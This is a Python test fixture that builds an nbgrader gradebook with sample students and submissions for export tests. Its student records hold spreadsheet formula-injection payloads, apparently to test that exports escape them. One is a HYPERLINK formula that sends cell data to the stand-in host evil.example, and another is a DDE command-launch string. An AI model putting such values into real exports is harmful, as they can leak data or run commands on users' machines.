"""A small class in a real gradebook of nbgrader's, for the tests of exports."""

from __future__ import annotations

import csv
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from nbgrader.api import Gradebook

from autograder.notebooks.nbgrader_run import nbgrader_at_work
from tests.conftest import ROOT

FIRST, SECOND = "1-activations", "2-forward"
DUE = "2026-11-20 20:00:00 UTC"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
PEOPLE: dict[str, dict[str, str]] = {
    "ada": {
        "first_name": "Ada",
        "last_name": "Lovelace",
        "email": "Ada@uni.example",
        "lms_user_id": "101",
    },
    "zhao": {"first_name": "敏", "last_name": "赵", "email": "zhao@uni.example"},
    "eve": {"first_name": "@SUM(A1)", "last_name": FORMULA, "lms_user_id": "-cmd|'/c calc'!A0"},
    "bo": {"first_name": "Bo", "last_name": "Ek; =1+1", "lms_user_id": "104"},
    "jan1": {"first_name": "Jan", "last_name": "Novák", "lms_user_id": "105"},
    "jan2": {"first_name": "Jan", "last_name": "Novák", "lms_user_id": "106"},
    "noname": {},
}
# student -> (automatic marks of the two cells, mark by hand or None, handed in, penalty)
SUBMISSIONS: dict[str, tuple[tuple[float, float], float | None, str, float | None]] = {
    "ada": ((2.0, 1.3333), None, "2026-11-20 19:00:00 UTC", None),
    "zhao": ((2.0, 3.0), None, "2026-11-21 21:30:00 UTC", 2.5),  # 25.5 hours late
    "eve": ((0.0, 0.0), 1.5, "2026-11-20 19:00:00 UTC", None),  # a mark by hand
    "bo": ((1.0, 0.0), None, "2026-11-20 20:00:45 UTC", 100.0),  # more than there is
    "jan1": ((2.0, 2.0), None, "2026-11-20 19:00:00 UTC", None),
    "jan2": ((0.0, 1.0), None, "2026-11-20 19:00:00 UTC", None),
}
SCORES = {"ada": 3.3333, "zhao": 2.5, "eve": 1.5, "bo": 0.0, "jan1": 4.0, "jan2": 1.0}


def make_course(folder: Path) -> Path:
    """Write a course folder with the class in its gradebook; the second assignment is untouched."""
    shutil.copy(ROOT / "nbgrader_config.py", folder)
    with opened(folder) as book:
        for assignment in (FIRST, SECOND):
            book.add_assignment(assignment, duedate=DUE)
            book.add_notebook("notes", assignment)
            for cell, points in (("test-a", 2), ("test-b", 3)):
                book.add_grade_cell(cell, "notes", assignment, max_score=points, cell_type="code")
        for student, fields in PEOPLE.items():
            book.add_student(student, **fields)
        for student, (automatic, by_hand, handed_in, penalty) in SUBMISSIONS.items():
            entry = book.add_submission(FIRST, student)
            book.update_or_create_submission(FIRST, student, timestamp=handed_in)
            entry.notebooks[0].late_submission_penalty = penalty
            for cell, score in zip(("test-a", "test-b"), automatic, strict=True):
                grade = book.find_grade(cell, "notes", FIRST, student)
                grade.auto_score, grade.needs_manual_grade = score, False
            if by_hand is not None:
                grade = book.find_grade("test-b", "notes", FIRST, student)
                grade.manual_score, grade.needs_manual_grade = by_hand, True
        book.db.commit()
    return folder


@contextmanager
def opened(course: Path) -> Iterator[Any]:
    """Open the course's gradebook."""
    with nbgrader_at_work(), Gradebook(f"sqlite:///{course}/gradebook.db") as book:
        yield book


def rows_of(path: Path, encoding: str = "utf-8", delimiter: str = ",") -> list[list[str]]:
    """Read a file as another program would."""
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.reader(file, delimiter=delimiter, strict=True))
